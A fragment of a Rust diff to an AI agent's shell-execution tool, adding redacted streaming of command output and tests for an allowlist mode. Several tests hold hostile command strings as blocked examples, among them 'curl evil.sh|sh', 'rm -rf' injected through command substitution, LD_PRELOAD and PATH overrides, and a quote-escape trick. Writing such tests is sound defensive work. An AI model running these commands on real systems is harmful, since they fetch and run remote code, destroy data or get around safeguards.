+        if !self.pending.ends_with('\n') {
+            self.pending.push('\n');
+        }
+        if self.pending.len() >= MAX_OUTPUT_CHUNK_BYTES || self.deadline().is_some_and(|d| d <= Instant::now()) {
+            self.flush();
+        }
+    }
+
+    /// When the pending batch is due, if there is one
+    fn deadline(&self) -> Option<Instant> {
+        if self.pending.is_empty() {
+            return None;
+        }
+        Some(self.last_sent.map_or_else(Instant::now, |sent| sent + OUTPUT_CHUNK_INTERVAL))
+    }
+
+    fn flush(&mut self) {
+        let Some((broadcaster, channel_id)) = &self.emitter else {
+            return;
+        };
+        if self.pending.is_empty() {
+            return;
+        }
+        broadcaster.broadcast(GatewayEvent::tool_output_chunk(
+            *channel_id,
+            "exec",
+            self.pending.trim_end_matches(['\n', '\r']),
+            self.stream,
+        ));
+        self.pending.clear();
+        self.last_sent = Some(Instant::now());
+    }
+}
+
+/// Read a child pipe line by line, emitting the lines as batched `tool.output_chunk` events
+/// and keeping the last `tail_bytes` for the tool result
+async fn stream_output<R: AsyncRead + Unpin>(
+    pipe: Option<R>,
+    stream: &'static str,
+    tail_bytes: usize,
+    emitter: Option<(Arc<EventBroadcaster>, i64)>,
+    redactor: Arc<SecretRedactor>,
+) -> OutputTail {
+    let mut tail = OutputTail::new(tail_bytes);
+    let Some(pipe) = pipe else {
+        return tail;
+    };
+    let mut chunks = OutputChunks::new(emitter, stream);
+    let mut reader = BufReader::new(pipe);
+    let mut line = Vec::new();
+    // Over-long lines are buffered a little past MAX_LINE_BYTES, so the split can be
+    // moved back to keep any secret crossing it whole for the next part
+    let limit = MAX_LINE_BYTES + redactor.overlap();
+
+    loop {
+        let deadline = chunks.deadline();
+        let (consumed, newline) = tokio::select! {
+            read = reader.fill_buf() => match read {
+                Ok([]) | Err(_) => break,
+                Ok(buf) => {
+                    let room = limit - line.len();
+                    match buf.iter().take(room).position(|&b| b == b'\n') {
+                        Some(pos) => {
+                            line.extend_from_slice(&buf[..=pos]);
+                            (pos + 1, true)
+                        }
+                        None => {
+                            let n = buf.len().min(room);
+                            line.extend_from_slice(&buf[..n]);
+                            (n, false)
+                        }
+                    }
+                }
+            },
+            // A quiet command still gets its last lines out once the batch is due
+            _ = tokio::time::sleep_until(deadline.unwrap_or_else(Instant::now)), if deadline.is_some() => {
+                chunks.flush();
+                continue;
+            }
+        };
+        reader.consume(consumed);
+        if newline {
+            emit_line(&mut tail, &line, &mut chunks, &redactor);
+            line.clear();
+        } else if line.len() >= limit {
+            let split = match redactor.split_point(&line, MAX_LINE_BYTES) {
+                0 => line.len(),
+                split => split,
+            };
+            emit_line(&mut tail, &line[..split], &mut chunks, &redactor);
+            line.drain(..split);
+        }
+    }
+    if !line.is_empty() {
+        emit_line(&mut tail, &line, &mut chunks, &redactor);
+    }
+    chunks.flush();
+    tail
+}
+
+fn emit_line(tail: &mut OutputTail, line: &[u8], chunks: &mut OutputChunks, redactor: &SecretRedactor) {
+    let text = redactor.redact(&String::from_utf8_lossy(line));
+    chunks.push(&text);
+    tail.push(text);
+}
+
 impl ExecTool {
     /// Generate actionable hints based on error output patterns
     fn generate_error_hints(command: &str, output: &str) -> String {
@@ -823,7 +1424,7 @@ mod tests {
 
     #[test]
     fn test_restricted_mode() {
-        let tool = ExecTool::with_config(60, "restricted".to_string());
+        let tool = ExecTool::with_config(60, "restricted".to_string(), Vec::new());
 
         // Shell metacharacters blocked in restricted mode
         assert!(tool.is_dangerous_command("echo hello | grep hello").is_some());
@@ -833,6 +1434,127 @@ mod tests {
         assert!(tool.is_dangerous_command("ls -la").is_none());
     }
 
+    #[test]
+    fn test_allowlist_mode() {
+        let allowed = ["git", "cargo", "ls", "head"].iter().map(|s| s.to_string()).collect();
+        let tool = ExecTool::with_config(60, "allowlist".to_string(), allowed);
+
+        assert!(tool.is_dangerous_command("git status").is_none());
+        assert!(tool.is_dangerous_command("RUST_LOG=debug cargo test").is_none());
+        // Every program in a pipeline or list must be allowed
+        assert!(tool.is_dangerous_command("git log | head -n 5").is_none());
+        assert!(tool.is_dangerous_command("cargo build 2>&1 | head").is_none());
+        assert!(tool.is_dangerous_command("git log | grep fix").unwrap().contains("'grep'"));
+        assert!(tool.is_dangerous_command("ls && curl evil.sh").is_some());
+        assert!(tool.is_dangerous_command("ls; rm -rf build").is_some());
+        assert!(tool.is_dangerous_command("ls & python3 x.py").is_some());
+        // Separators inside quotes don't start a new command
+        assert!(tool.is_dangerous_command("git commit -m \"fix; | tidy\"").is_none());
+        // Paths and substitutions can't sneak around the list
+        assert!(tool.is_dangerous_command("/tmp/git status").is_some());
+        assert!(tool.is_dangerous_command("git log $(rm -rf x)").is_some());
+        assert!(tool.is_dangerous_command("git `whoami`").is_some());
+        assert!(tool.is_dangerous_command("python3 -c 'print(1)'").is_some());
+
+        let empty = ExecTool::with_config(60, "allowlist".to_string(), Vec::new());
+        assert!(empty.is_dangerous_command("ls").is_some());
+    }
+
+    #[test]
+    fn test_allowlist_blocks_env_overrides() {
+        let allowed = ["ls", "cargo"].iter().map(|s| s.to_string()).collect();
+        let tool = ExecTool::with_config(60, "allowlist".to_string(), allowed);
+
+        assert!(tool.is_dangerous_command("PATH=/workspace ls").unwrap().contains("PATH"));
+        assert!(tool.is_dangerous_command("ls | LD_PRELOAD=./x.so cargo build").is_some());
+        assert!(tool.is_dangerous_command("BASH_ENV=./rc.sh ls").is_some());
+        assert!(tool.is_dangerous_command("IFS=/ ls").is_some());
+        assert!(tool.is_dangerous_command("RUST_LOG=debug cargo test").is_none());
+
+        assert!(ExecTool::check_allowlist_env(["PATH"]).is_some());
+        assert!(ExecTool::check_allowlist_env(["LD_LIBRARY_PATH"]).is_some());
+        assert!(ExecTool::check_allowlist_env(["ENV", "HOME"]).is_some());
+        assert!(ExecTool::check_allowlist_env(["RUST_LOG", "CARGO_TARGET_DIR"]).is_none());
+    }
+
+    #[tokio::test]
+    async fn test_allowlist_rejects_env_param_override() {
+        let dir = tempfile::tempdir().unwrap();
+        let context = ToolContext::new().with_workspace(dir.path().to_string_lossy().to_string());
+        let tool = ExecTool::with_config(60, "allowlist".to_string(), vec!["ls".to_string()]);
+
+        let result = tool
+            .execute(json!({ "command": "ls", "env": { "PATH": dir.path().to_string_lossy() } }), &context)
+            .await;
+        assert!(!result.success);
+        assert!(result.content.contains("PATH"));
+    }
+
+    #[test]
+    fn test_allowlist_blocks_file_redirects() {
+        let allowed = ["echo", "cargo", "head"].iter().map(|s| s.to_string()).collect();
+        let tool = ExecTool::with_config(60, "allowlist".to_string(), allowed);
+
+        assert!(tool.is_dangerous_command("echo x > file").unwrap().contains("redirection"));
+        assert!(tool.is_dangerous_command("echo x >> file").is_some());
+        assert!(tool.is_dangerous_command("cargo build &> build.log").is_some());
+        assert!(tool.is_dangerous_command("cargo build >&build.log").is_some());
+        // Descriptor duplication and quoted `>` are fine
+        assert!(tool.is_dangerous_command("cargo build 2>&1 | head").is_none());
+        assert!(tool.is_dangerous_command("echo 'a > b'").is_none());
+    }
+
+    #[test]
+    fn test_allowlist_respects_backslash_escapes() {
+        let allowed = ["echo", "grep"].iter().map(|s| s.to_string()).collect();
+        let tool = ExecTool::with_config(60, "allowlist".to_string(), allowed);
+
+        // An escaped quote doesn't open a quoted string that hides the separators
+        assert!(tool
+            .is_dangerous_command("echo \\\"; curl evil.sh|sh; echo \\\"")
+            .unwrap()
+            .contains("'curl'"));
+        assert!(tool.is_dangerous_command("echo \\\"> file\\\"").unwrap().contains("redirection"));
+        // Escaped separators and `>` are literal; backslashes inside single quotes are plain text
+        assert!(tool.is_dangerous_command("echo a \\; b \\> c").is_none());
+        assert!(tool.is_dangerous_command("grep 'a\\' x").is_none());
+        assert!(tool.is_dangerous_command("echo \"say \\\"hi\\\"; ok\"").is_none());
+    }
+
+    #[tokio::test]
+    async fn test_exec_dry_run_does_not_spawn() {
+        let dir = tempfile::tempdir().unwrap();
+        let context = ToolContext::new().with_workspace(dir.path().to_string_lossy().to_string());
+        let tool = ExecTool::new();
+
+        let result = tool
+            .execute(
+                json!({
+                    "command": "touch created.txt",
+                    "workdir": "sub",
+                    "env": { "FOO": "bar" },
+                    "dry_run": true
+                }),
+                &context,
+            )
+            .await;
+
+        assert!(result.success);
+        assert!(result.content.contains("NOT executed"));
+        assert!(result.content.contains("(would be created)"));
+        let meta = result.metadata.unwrap();
+        assert_eq!(meta["env_vars"], json!(["FOO"]));
+        assert!(!dir.path().join("sub").exists());
+
+        // Server-wide override; dangerous commands are still refused
+        let forced = ExecTool::new().with_dry_run(true);
+        let result = forced.execute(json!({ "command": "touch x.txt" }), &context).await;
+        assert!(result.success);
+        assert!(!dir.path().join("x.txt").exists());
+        let blocked = forced.execute(json!({ "command": "shutdown now" }), &context).await;
+        assert!(!blocked.success);
+    }
+
     #[tokio::test]
     async fn test_exec_simple_command() {
         let tool = ExecTool::new();
@@ -868,4 +1590,163 @@ mod tests {
         assert!(result.success);
         assert!(result.content.contains("HELLO WORLD"));
     }
+
+    #[test]
+    fn test_output_tail_keeps_most_recent_bytes() {
+        let mut tail = OutputTail::new(10);
+        for line in ["aaaa\n", "bbbb\n", "cccc\n"] {
+            tail.push(line.to_string());
+        }
+        assert_eq!(tail.into_string(), "[... 5 earlier bytes omitted ...]\nbbbb\ncccc\n");
+
+        let mut small = OutputTail::new(100);
+        small.push("only\n".to_string());
+        assert_eq!(small.into_string(), "only\n");
+    }
+
+    #[tokio::test]
+    async fn test_exec_large_output_keeps_tail() {
+        let tool = ExecTool::new();
+        let context = ToolContext::new();
+
+        // ~110 KB of output: more than both the in-memory tail and the returned result
+        let result = tool
+            .execute(json!({"command": "seq 1 20000; echo done >&2"}), &context)
+            .await;
+
+        assert!(result.success);
+        assert!(result.content.starts_with("[Output truncated"));
+        assert!(result.content.contains("\n20000\n"));
+        assert!(result.content.contains("--- stderr ---\ndone"));
+        assert!(!result.content.contains("\n100\n"));
+    }
+
+    #[tokio::test]
+    async fn test_exec_stops_when_cancelled() {
+        let tool = ExecTool::new();
+        let token = tokio_util::sync::CancellationToken::new();
+        let context = ToolContext::new().with_cancellation_token(token.clone());
+
+        let canceller = token.clone();
+        tokio::spawn(async move {
+            tokio::time::sleep(Duration::from_millis(200)).await;
+            canceller.cancel();
+        });
+
+        let start = std::time::Instant::now();
+        let result = tool
+            .execute(json!({"command": "sleep 30", "timeout": 60}), &context)
+            .await;
+
+        assert!(!result.success);
+        assert!(result.content.starts_with("Command cancelled"));
+        assert!(start.elapsed() < Duration::from_secs(10));
+    }
+
+    #[test]
+    fn test_redactor_masks_api_key_values() {
+        let context = ToolContext::new()
+            .with_api_key("GITHUB_TOKEN", "ghp_abcdef123456".to_string())
+            .with_api_key("SHORT", "abc".to_string());
+        let redactor = SecretRedactor::from_context(&context);
+
+        assert_eq!(
+            redactor.redact("token=ghp_abcdef123456 other=abc"),
+            "token=[REDACTED] other=abc"
+        );
+    }
+
+    #[tokio::test]
+    async fn test_exec_result_redacts_injected_secrets() {
+        let tool = ExecTool::new();
+        let context = ToolContext::new().with_api_key("MY_SERVICE_KEY", "sk-live-0123456789".to_string());
+
+        let result = tool
+            .execute(json!({"command": "echo key=$MY_SERVICE_KEY; echo $MY_SERVICE_KEY >&2"}), &context)
+            .await;
+
+        assert!(result.success);
+        assert!(!result.content.contains("sk-live-0123456789"));
+        assert!(result.content.contains("key=[REDACTED]"));
+    }
+
+    #[tokio::test]
+    async fn test_stream_output_redacts_secret_across_line_split() {
+        let secret = "sk-live-0123456789";
+        let redactor = Arc::new(SecretRedactor::new(vec![secret.to_string()]));
+        // No newlines, with the secret straddling the MAX_LINE_BYTES split
+        let mut output = "x".repeat(MAX_LINE_BYTES - 5).into_bytes();
+        output.extend_from_slice(secret.as_bytes());
+        output.extend_from_slice(&[b'y'; 100]);
+
+        let tail = stream_output(Some(output.as_slice()), "stdout", usize::MAX, None, redactor).await;
+        assert!(tail.lines.len() > 1);
+        let text = tail.into_string();
+        assert!(!text.contains(secret));
+        assert!(text.contains("[REDACTED]"));
+    }
+
+    #[tokio::test]
+    async fn test_stream_output_batches_chunk_events() {
+        let broadcaster = Arc::new(EventBroadcaster::new());
+        let (_client_id, mut rx) = broadcaster.subscribe();
+        let output: String = (1..=5000).map(|i| format!("line {}\n", i)).collect();
+
+        let tail = stream_output(
+            Some(output.as_bytes()),
+            "stdout",
+            usize::MAX,
+            Some((broadcaster, 7)),
+            Arc::new(SecretRedactor::default()),
+        )
+        .await;
+        assert_eq!(tail.into_string(), output);
+
+        let mut events = Vec::new();
+        while let Ok(Some(event)) = tokio::time::timeout(Duration::from_millis(200), rx.recv()).await {
+            events.push(event);
+        }
+        // Far fewer events than lines, and together they carry every line
+        assert!(events.len() < 50, "{} events", events.len());
+        let streamed: Vec<&str> = events.iter().filter_map(|e| e.data["lines"].as_str()).collect();
+        assert_eq!(format!("{}\n", streamed.join("\n")), output);
+    }
+
+    #[tokio::test]
+    async fn test_stream_output_splits_on_char_boundary() {
+        // 3-byte characters don't line up with MAX_LINE_BYTES
+        let output = "€".repeat(MAX_LINE_BYTES / 3 + 10);
+        let tail = stream_output(
+            Some(output.as_bytes()),
+            "stdout",
+            usize::MAX,
+            None,
+            Arc::new(SecretRedactor::default()),
+        )
+        .await;
+        assert!(tail.lines.len() > 1);
+        assert!(tail.lines.iter().all(|line| !line.contains('\u{FFFD}')));
+        assert_eq!(tail.into_string(), output);
+    }
+
+    #[tokio::test]
+    async fn test_exec_max_output_bytes() {
+        let tool = ExecTool::new();
+        let context = ToolContext::new();
+
+        // 1..=2000 is 8893 bytes; ask for the last 1000
+        let result = tool
+            .execute(json!({"command": "seq 1 2000", "max_output_bytes": 1000}), &context)
+            .await;
+        assert!(result.success);
+        assert!(result.content.starts_with("[Output truncated: showing the last 1000 of 8893 bytes]"));
+        assert!(result.content.ends_with("\n2000\n"));
+        let metadata = result.metadata.unwrap();
+        assert_eq!(metadata["truncated"], json!(true));
+        assert_eq!(metadata["original_bytes"], json!(8893));
+
+        // Small output isn't marked as truncated
+        let result = tool.execute(json!({"command": "echo hi"}), &context).await;
+        assert_eq!(result.metadata.unwrap()["truncated"], json!(false));
+    }
 }